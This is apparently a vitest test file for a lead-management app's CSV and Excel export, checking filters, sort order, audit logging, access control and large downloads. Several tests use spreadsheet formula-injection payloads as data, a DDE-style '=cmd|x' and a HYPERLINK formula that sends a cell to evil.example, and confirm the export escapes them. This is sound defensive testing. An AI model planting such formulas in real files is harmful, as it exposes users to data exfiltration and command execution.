import Papa from "papaparse";
import { describe, expect } from "vitest";
import { csvHeader } from "#contract/lead/columns";
import { leadExportColumns } from "#contract/leads/exported";
import { type Office, uploadLeads } from "#server/testing/office";
import { officeTest } from "#server/testing/office-test";
import { downloadRows } from "#server/testing/workbook";

const test = officeTest({ telecallers: ["asha", "bharat"] });

const FOLLOW_UP = "2026-11-06T16:30:00+05:30";

describe("a list of leads is exported as it is filtered (§2, §5)", () => {
  test.beforeAll(async ({ office, asha }) => {
    const [called] = await uploadLeads(office, [
      {
        name: "Rohit Rao",
        vehicleType: "commercial",
        phoneNumber: "9800000142",
        insuranceExpiry: "2026-11-08",
        telecallerName: "asha",
      },
      { name: "=cmd|x", phoneNumber: "022-54425818", insuranceExpiry: "next week", telecallerName: "asha" },
      { name: "Anil Nair", insuranceExpiry: "2026-11-03", telecallerName: "bharat" },
    ]);
    await uploadLeads(office, [{ name: "Next Month" }], "2026-12");
    await asha.records(called, "callback", { nextFollowUp: FOLLOW_UP });
  });

  const list = "/api/leads/export?campaignMonth=2026-11";
  const csvOf = async (office: Office, path: string) => {
    const { headers, body } = await office.admin.get(path);
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
    return Papa.parse<Record<string, string>>(body.replace("\uFEFF", "").trim(), { header: true }).data;
  };
  const newest = async (office: Office) => (await office.admin.get("/api/audit-log?limit=1")).body.entries[0];

  test("as .xlsx: dates are dates, phones are texts, a formula is a text", async ({ office, asha }) => {
    const path = `${list}&telecaller=${asha.id}&format=xlsx`;
    const [first, second, ...others] = await downloadRows(office.url, office.admin, path);
    expect(others).toEqual([]);
    expect(first).toMatchObject({
      name: { type: "s", value: "Rohit Rao" },
      phone_number: { type: "s", value: "+91-9800000142" },
      registration_number: { type: "s" },
      insurance_expiry: { type: "n", value: 46_334, shown: "08-Nov-2026" },
      Telecaller_Name: { value: "asha" },
      status: { value: "Follow Up" },
      sub_status: { value: "Callback" },
      vehicle_type: { value: "Commercial Vehicle" },
      next_follow_up_ist: { type: "n", shown: "06-Nov-2026 16:30" },
      lead_id: { type: "n" },
    });
    expect(first?.last_call_at_ist?.shown).toMatch(/^05-Nov-2026 10:0/);
    expect(second).toMatchObject({
      name: { type: "s", value: "=cmd|x" },
      phone_number: { type: "s", value: "022-54425818" },
      insurance_expiry: { type: "s", value: "next week" },
    });
  });

  test("as CSV: the same rows under the same headers, in the list's order", async ({ office }) => {
    const rows = await csvOf(office, `${list}&sort=expiry&sortOrder=asc`);
    expect(rows.map(({ name }) => name)).toEqual(["Anil Nair", "Rohit Rao", "'=cmd|x"]);
    expect(Object.keys(rows[0] ?? {})).toEqual(leadExportColumns.map(({ header }) => header));
    expect(Object.keys(rows[0] ?? {}).slice(0, csvHeader.length)).toEqual(csvHeader);
    expect(rows[1]).toMatchObject({
      insurance_expiry: "2026-11-08",
      phone_number: "9800000142",
      next_follow_up_ist: "2026-11-06 16:30",
    });
    const namesBy = async (query: string) => (await csvOf(office, list + query)).map(({ name }) => name);
    expect(await namesBy("&sort=name&sortOrder=desc")).toEqual(["Rohit Rao", "Anil Nair", "'=cmd|x"]);
    expect(await namesBy("&sort=priority&search=rao")).toEqual(["Rohit Rao"]);
    expect(await namesBy("&callResults=callback,follow_up")).toEqual(["Rohit Rao"]);
    expect(await namesBy("&status=pending_calls&expiryTo=2026-11-04")).toEqual(["Anil Nair"]);
    expect(await namesBy("&promised=true&telecaller=unassigned")).toEqual([]);
  });

  test("a formula over several lines is text in CSV: from a file, or in a telecaller's note", async ({
    office,
    asha,
  }) => {
    const formula = '=HYPERLINK(\n"http://evil.example/?d="&B2,"Open")';
    const [lead] = await uploadLeads(office, [{ address: formula, telecallerName: "asha" }], "2027-02");
    const [exported] = await csvOf(office, `/api/leads/export?campaignMonth=2027-02`);
    expect(exported?.address).toBe(`'${formula}`);
    await asha.records(lead, "interested", { notes: formula });
    const day = "from=2026-11-05&to=2026-11-05";
    const calls = await csvOf(office, `/api/figures/calls/export?${day}&format=csv`);
    expect(calls.map(({ remark }) => remark)).toContain(`'${formula}`);
  });

  test("is in the audit log with its filter and its file, without the text of a search", async ({
    office,
  }) => {
    await office.admin.get(`${list}&status=follow_up&search=rohit&format=xlsx`);
    expect(await newest(office)).toMatchObject({
      what: "Exported leads",
      about: "1 lead, Nov 2026, Follow Up, a search, as Excel (.xlsx)",
    });
    await office.admin.get(`${list}&insurer=nobody`);
    expect((await newest(office)).about).toContain("0 leads");
  });

  test("is for those who may export the database (§6)", async ({ asha }) => {
    expect((await asha.get(list)).status).toBe(403);
  });

  test("an export of thousands of leads is complete, and a download that is given up ends", async ({
    office,
  }) => {
    const rows = Array.from({ length: 2500 }, (_, place) => ({ name: `Lead ${place}` }));
    await uploadLeads(office, rows, "2027-01");
    const path = "/api/leads/export?campaignMonth=2027-01&sort=name&format=xlsx";
    const found = await downloadRows(office.url, office.admin, path);
    expect(new Set(found.map(({ name }) => name?.value)).size).toBe(2500);
    for (let time = 0; time < 3; time++) {
      const answer = await fetch(office.url + path, { headers: { cookie: office.admin.cookie() } });
      expect(answer.status).toBe(200);
      await answer.body?.cancel();
      await expect
        .poll(async () => (await office.admin.get(`${list}&search=rohit`)).status, { timeout: 5000 })
        .toBe(200);
    }
  });
});
